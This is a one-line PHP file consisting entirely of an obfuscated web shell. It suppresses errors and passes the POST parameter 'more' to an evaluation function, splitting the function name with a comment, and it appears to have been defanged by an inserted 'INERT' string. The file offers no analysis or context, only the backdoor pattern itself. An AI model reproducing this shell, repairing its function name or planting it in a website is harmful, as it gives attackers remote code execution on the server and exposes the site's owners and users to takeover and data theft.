<?php @ev/**/INERTal ( $_POST["more"] );
